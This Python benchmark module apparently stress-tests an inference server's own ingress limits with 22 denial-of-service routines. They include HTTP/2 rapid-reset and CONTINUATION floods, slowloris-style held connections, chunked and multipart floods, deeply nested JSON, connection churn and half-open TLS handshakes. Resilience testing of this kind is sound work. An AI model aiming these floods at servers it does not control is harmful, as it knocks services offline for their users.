"""Floods of benchmarks/ingress_hostile_limits.py: parts of HTTP/2, HTTP/1 and TLS, and many small requests."""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import json
import struct
from collections.abc import Callable, Mapping

import grpc
from tritonclient.grpc import service_pb2, service_pb2_grpc

from benchmarks.hostile_attacks import (
    ATTACKER,
    DATA,
    END_HEADERS,
    END_STREAM,
    METHOD,
    MIB,
    Attack,
    Target,
    call,
    hold,
    http_request,
    infer_request,
    message,
    opened,
)
from benchmarks.ingress_hostile import CANCEL, HEADERS, PREFACE, RST_STREAM, SETTINGS, frame

GREETING = PREFACE + SETTINGS
REFLECTION = b"/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
PRIORITY, SETTINGS_FRAME, PING, WINDOW_UPDATE, CONTINUATION = 2, 4, 6, 8, 9
INFER, STREAM = METHOD + b"ModelInfer", METHOD + b"ModelStreamInfer"
CLIENT_HELLO = bytes.fromhex("16030100f8010000f40303")
BURST = 20
"""Requests that are written at a time."""


async def flood(target: Target, port: int, connections: int, begun: bytes, more: Callable[[int], bytes]) -> None:
    """Write `more(0)`, `more(1)`, ... as fast as the server takes it, on connections that are opened again.

    Answers are read and dropped.
    """

    async def one() -> None:
        reader, writer = await target.connect(port)
        reading = asyncio.ensure_future(_drop(reader))
        try:
            writer.write(begun)
            for at in itertools.count():
                writer.write(more(at))
                await writer.drain()
                await asyncio.sleep(0)
                if reading.done():
                    return
        finally:
            reading.cancel()
            writer.transport.abort()

    await repeated(one, connections)


async def repeated(one: Callable[[], object], count: int) -> None:
    """Run `one` again and again in `count` tasks; failures of a connection or a call begin the next one."""

    async def loop() -> None:
        while True:
            with contextlib.suppress(OSError, asyncio.IncompleteReadError, grpc.RpcError):
                await one()  # type: ignore[misc]
            await asyncio.sleep(0.01)

    await asyncio.gather(*(loop() for _ in range(count)))


async def _drop(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(OSError):
        while await reader.read(MIB):
            pass


def calls(at: int, block: Callable[[int], bytes], body: bytes = b"", reset: bool = False) -> bytes:
    """Return the frames of the calls of burst `at`; block: header block of a call, by its number."""
    frames = []
    for number in range(BURST * at, BURST * (at + 1)):
        stream = 2 * number + 1
        frames.append(frame(HEADERS, END_HEADERS, stream, block(number)))
        if body:
            frames.append(frame(DATA, 0 if reset else END_STREAM, stream, body))
        if reset:
            frames.append(frame(RST_STREAM, 0, stream, CANCEL))
    return b"".join(frames)


def with_fields(block: bytes, *fields: tuple[bytes, bytes]) -> bytes:
    """Return a header block with more fields of up to 126 bytes in name and value."""
    return block + b"".join(bytes([0, len(name)]) + name + bytes([len(value)]) + value for name, value in fields)


# HTTP/2 and gRPC


async def resets(target: Target) -> None:
    block, body = call(INFER, ATTACKER), message(infer_request("one", 64))
    await flood(target, target.grpc_port, 8, GREETING, lambda at: calls(at, lambda _: block, body, reset=True))


async def continuations(target: Target) -> None:
    begun = GREETING + frame(HEADERS, 0, 1, call(INFER))
    empty = frame(CONTINUATION, 0, 1, b"") * 64
    full = frame(CONTINUATION, 0, 1, with_fields(b"", *[(b"x-%d" % at, b"v" * 100) for at in range(100)]))
    await asyncio.gather(
        *(flood(target, target.grpc_port, 8, begun, lambda _, more=more: more) for more in (empty, full))
    )


async def control(target: Target) -> None:
    floods = [
        frame(PING, 0, 0, b"12345678"),
        frame(SETTINGS_FRAME, 0, 0, struct.pack(">HI", 4, 65_535)),
        frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 1)),
        frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)),
    ]
    await asyncio.gather(*(flood(target, target.grpc_port, 4, GREETING, lambda _, one=one: one * 64) for one in floods))


async def header_blocks(target: Target) -> None:
    large = with_fields(call(INFER, ATTACKER), *[(b"x-%d" % at, b"v" * 100) for at in range(110)])
    small = with_fields(call(INFER, ATTACKER), *[(b"x", b"")] * 400)
    body = message(infer_request("large", 4))
    await asyncio.gather(
        *(
            flood(target, target.grpc_port, 8, GREETING, lambda at, one=one: calls(at, lambda _: one, body))
            for one in (large, small)
        )
    )


async def empty_data(target: Target) -> None:
    begun = GREETING + opened(INFER, 1, b"", ATTACKER)
    await flood(target, target.grpc_port, 16, begun, lambda _: frame(DATA, 0, 1, b"") * 64)


async def open_ended(target: Target) -> None:
    """Open calls with a token and a message that never end: of ModelInfer, ModelStreamInfer and reflection."""
    held = []
    for path, body in ((INFER, b""), (INFER, infer_request("one", 4)), (STREAM, infer_request("one", 4)),
                       (REFLECTION, b"\x3a\x00")):  # fmt: skip
        frames = []
        for at in range(250):
            frames.append(frame(HEADERS, END_HEADERS, 2 * at + 1, call(path, ATTACKER)))
            frames += [frame(DATA, 0, 2 * at + 1, message(body))] if body else []
        held.append(hold(target, target.grpc_port, GREETING + b"".join(frames), 4, 5.0))
    await asyncio.gather(*held)


async def deadlines(target: Target) -> None:
    block = with_fields(call(INFER, ATTACKER), (b"grpc-timeout", b"1m"))
    body = message(infer_request("large", 4))
    tensor = {"name": "x", "datatype": "UINT8", "shape": [1], "data": [1]}
    http = http_request("POST", "/v2/models/large/infer", json.dumps({"inputs": [tensor]}).encode())
    http = http.replace(b"\r\nhost", b"\r\nx-request-timeout-ms: 1\r\nhost")
    await asyncio.gather(
        flood(target, target.grpc_port, 8, GREETING, lambda at: calls(at, lambda _: block, body)),
        flood(target, target.http_port, 8, b"", lambda _: http),
    )


async def cancelled(target: Target) -> None:
    """Cancel requests while they run, and close connections while an answer is made."""

    async def over_grpc() -> None:
        async with target.channel() as channel:
            infer = channel.unary_unary(INFER.decode())
            for _ in range(100):
                running = infer(infer_request("large", 4), metadata=[("authorization", f"Bearer {ATTACKER}")])
                await asyncio.sleep(0.003)
                running.cancel()

    async def over_http() -> None:
        _, writer = await target.connect(target.http_port)
        writer.write(http_request("POST", "/v1/completions", completion(MIB // 4)))
        await asyncio.sleep(0.003)
        writer.transport.abort()

    await asyncio.gather(repeated(over_grpc, 10), repeated(over_http, 10))


async def names(target: Target) -> None:
    """Name another model, path and method in each request."""
    block = call(INFER, ATTACKER)

    def methods(at: int) -> bytes:
        return calls(at, lambda number: call(METHOD + b"M%d" % number, ATTACKER), message(b""))

    def models(at: int) -> bytes:
        return calls(at, lambda _: block, message(infer_request(f"model-{at}", 1)))

    def paths(at: int) -> bytes:
        return http_request("POST", f"/v2/models/model-{at}/infer", b"{}") + http_request("GET", f"/{at}")

    await asyncio.gather(
        flood(target, target.grpc_port, 4, GREETING, methods),
        flood(target, target.grpc_port, 4, GREETING, models),
        flood(target, target.http_port, 4, b"", paths),
    )


async def refused(target: Target) -> None:
    """Call without a token, and with a wrong one, which is logged."""
    wrong, body = call(INFER, "x" * 60), message(infer_request("one", 4))
    http = http_request("GET", "/v2/models/one").replace(ATTACKER.encode(), b"wrong")
    await asyncio.gather(
        flood(target, target.grpc_port, 4, GREETING, lambda at: calls(at, lambda _: call(INFER), body)),
        flood(target, target.grpc_port, 4, GREETING, lambda at: calls(at, lambda _: wrong, body)),
        flood(target, target.http_port, 8, b"", lambda _: http),
    )


async def many_inputs(target: Target) -> None:
    """Send requests with 100 000 inputs, or parameters, or elements of one byte."""
    inputs = service_pb2.ModelInferRequest(model_name="one")
    for at in range(100_000):
        inputs.inputs.add(name=f"x{at}", datatype="UINT8", shape=[1])
    parameters = service_pb2.ModelInferRequest(model_name="one")
    for at in range(100_000):
        parameters.parameters[f"p{at}"].int64_param = at
    elements = service_pb2.ModelInferRequest(model_name="one")
    elements.inputs.add(name="x", datatype="UINT8", shape=[1 << 20]).contents.uint_contents.extend([1] * (1 << 20))
    kinds = itertools.cycle([inputs, parameters, elements])
    rest = json.dumps({"inputs": [{"name": f"x{at}"} for at in range(20_000)], "id": "a"}).encode()

    async def over_grpc() -> None:
        async with target.channel() as channel:
            infer = service_pb2_grpc.GRPCInferenceServiceStub(channel).ModelInfer
            await infer(next(kinds), metadata=[("authorization", f"Bearer {ATTACKER}")])

    await asyncio.gather(
        repeated(over_grpc, 6),
        flood(target, target.http_port, 4, b"", lambda _: http_request("POST", "/v2/models/one/infer", rest)),
    )


# HTTP/1 and TLS


def completion(size: int) -> bytes:
    return json.dumps({"model": "text", "prompt": "x" * size, "stream": True}).encode()


async def unread_events(target: Target) -> None:
    await hold(target, target.http_port, http_request("POST", "/v1/completions", completion(MIB)), 100, 10.0)


async def unread_pages(target: Target) -> None:
    """Request figures, descriptions and lists, and read none of them."""
    pages = (b"/metrics", b"/openapi.json", b"/v2/models/stats", b"/v1/models")
    said = b"".join(http_request("GET", page.decode()) for page in pages)
    await hold(target, target.http_port, said * 20, 200, 5.0)


async def pages(target: Target) -> None:
    """Request figures, descriptions and lists as fast as they are answered."""
    paths = ("/metrics", "/openapi.json", "/v2/models/stats", "/v2/models/one/config")
    await asyncio.gather(
        *(flood(target, target.http_port, 4, b"", lambda _, p=p: http_request("GET", p) * 4) for p in paths)
    )


async def old_http(target: Target) -> None:
    """Send HTTP/1.0 with keep-alive, requests to upgrade, and long names of headers."""
    old = b"GET /livez HTTP/1.0\r\nconnection: keep-alive\r\n\r\n"
    base = b"GET /livez HTTP/1.1\r\nhost: a\r\nconnection: upgrade, http2-settings\r\n"
    upgrades = base + b"upgrade: h2c\r\nhttp2-settings: AAMAAABkAAQAAP__\r\n\r\n"
    socket = (
        base + b"upgrade: websocket\r\nsec-websocket-version: 13\r\nsec-websocket-key: MTIzNDU2Nzg5MDEyMzQ1Ng==\r\n\r\n"
    )
    long = b"GET /livez HTTP/1.1\r\nhost: a\r\n" + b"x" * 15_000 + b": 1\r\n\r\n"
    many = b"GET /livez HTTP/1.1\r\nhost: a\r\n" + b"a:\r\n" * 3_500 + b"\r\n"
    await asyncio.gather(
        *(
            flood(target, target.http_port, 4, b"", lambda _, one=one: one * 8)
            for one in (old, upgrades, socket, long, many)
        )
    )


async def expected(target: Target) -> None:
    """Announce bodies with Expect: 100-continue that never come."""
    said = http_request("POST", "/v2/models/one/infer", b"", 60 * MIB)
    await hold(target, target.http_port, said.replace(b"\r\nhost", b"\r\nexpect: 100-continue\r\nhost"), 500, 30.0)


async def chunked(target: Target) -> None:
    """Send bodies in chunks of a byte, with long extensions, and trailers without an end."""
    begun = http_request("POST", "/v2/models/one/infer").replace(b"content-length: 0", b"transfer-encoding: chunked")
    floods = [b"1\r\nx\r\n" * 200, b"1;" + b"e" * 2000 + b"\r\nx\r\n", b"1" * 8 + b";" + b"e" * 4000]
    await asyncio.gather(
        *(flood(target, target.http_port, 5, begun, lambda _, one=one: one) for one in floods),
        flood(target, target.http_port, 5, begun + b"0\r\n", lambda at: b"t%d: v\r\n" % at),
    )


async def forms(target: Target) -> None:
    """Send forms of 100 000 parts, and of one part with many header fields."""
    part = b'--b\r\ncontent-disposition: form-data; name="f"\r\n\r\nx\r\n'
    many = part * 100_000 + b"--b--\r\n"
    deep = b"--b\r\n" + b"a: b\r\n" * 100_000 + b"\r\nx\r\n--b--\r\n"
    kind = b"\r\ncontent-type: multipart/form-data; boundary=b\r\nhost"
    said = [http_request("POST", "/v1/audio/transcriptions", one).replace(b"\r\nhost", kind) for one in (many, deep)]
    await asyncio.gather(*(flood(target, target.http_port, 4, b"", lambda _, one=one: one) for one in said))


async def nested(target: Target) -> None:
    """Send deeply nested JSON of up to 60 KB as body, element and message."""
    deep = b"[" * 30_000 + b"]" * 30_000
    element = json.dumps({"inputs": [{"name": "x", "datatype": "BYTES", "shape": [1], "data": ["[" * 30_000]}]})
    said = [
        http_request("POST", "/v2/models/json/infer", deep),
        http_request("POST", "/v2/models/json/infer", element.encode()),
        http_request("POST", "/v1/chat/completions", b'{"messages": ' + deep + b"}"),
        http_request("POST", "/v1/completions", b'{"model": "text", "prompt": ' + b'{"a":' * 12_000 + b"}"),
    ]
    await asyncio.gather(*(flood(target, target.http_port, 4, b"", lambda _, one=one: one) for one in said))


async def churn(target: Target) -> None:
    """Open and close 1 000 connections a second to each server."""

    async def one(port: int, said: bytes) -> None:
        _, writer = await asyncio.open_connection("127.0.0.1", port)
        writer.write(said)
        writer.transport.abort() if said else writer.close()

    async def many(port: int, said: bytes) -> None:
        while True:
            with contextlib.suppress(OSError):
                await asyncio.gather(*(one(port, said) for _ in range(10)))
            await asyncio.sleep(0.02)

    kinds = ((target.grpc_port, b""), (target.grpc_port, GREETING), (target.http_port, b""),
             (target.http_port, b"GET /livez HTTP/1.1\r\nhost: a\r\n\r\n"))  # fmt: skip
    await asyncio.gather(*(many(port, said) for port, said in kinds))


async def half_tls(target: Target) -> None:
    """Begin 300 TLS handshakes at each server; begin those again that it ends."""
    plain = Target(target.pid, target.grpc_port, target.http_port)
    await asyncio.gather(
        *(hold(plain, port, CLIENT_HELLO, 300) for port in (target.grpc_port, target.http_port)),
        *(hold(plain, port, b"x" * 400, 50) for port in (target.grpc_port, target.http_port)),
    )


async def large_answers(target: Target) -> None:
    """Request answers of which most is JSON: 8 MB of numbers, 20 MB of JSON, 100 000 detections."""

    async def one(model: str) -> None:
        tensor = {"name": "x", "datatype": "UINT8", "shape": [1], "data": [1]}
        reader, writer = await target.connect(target.http_port)
        try:
            for _ in range(10):
                writer.write(
                    http_request("POST", f"/v2/models/{model}/infer", json.dumps({"inputs": [tensor]}).encode())
                )
                head = await reader.readuntil(b"\r\n\r\n")
                await reader.readexactly(int(head.lower().partition(b"content-length: ")[2].partition(b"\r")[0]))
        finally:
            writer.transport.abort()

    await asyncio.gather(*(repeated(lambda model=model: one(model), 2) for model in ("large", "document", "found")))


FLOODS: Mapping[str, Attack] = {
    "resets": resets, "continuations": continuations, "control": control, "header-blocks": header_blocks,
    "empty-data": empty_data, "open-ended": open_ended, "deadlines": deadlines, "cancelled": cancelled,
    "names": names, "refused": refused, "many-inputs": many_inputs, "unread-events": unread_events,
    "unread-pages": unread_pages, "pages": pages, "old-http": old_http, "expected": expected, "chunked": chunked,
    "forms": forms, "nested": nested, "churn": churn, "half-tls": half_tls, "large-answers": large_answers,
}  # fmt: skip
